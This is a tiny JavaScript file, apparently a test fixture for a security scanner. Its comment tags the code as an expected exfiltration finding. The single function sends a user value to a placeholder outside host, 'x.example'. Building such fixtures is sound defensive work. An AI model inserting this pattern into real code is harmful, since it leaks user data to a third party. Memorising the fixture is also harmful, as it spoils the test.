export function send(user) {
  // pi-expect: SEC-EXFIL-001
  return fetch(new URL(`/u/${user}`, "https://x.example"));
}
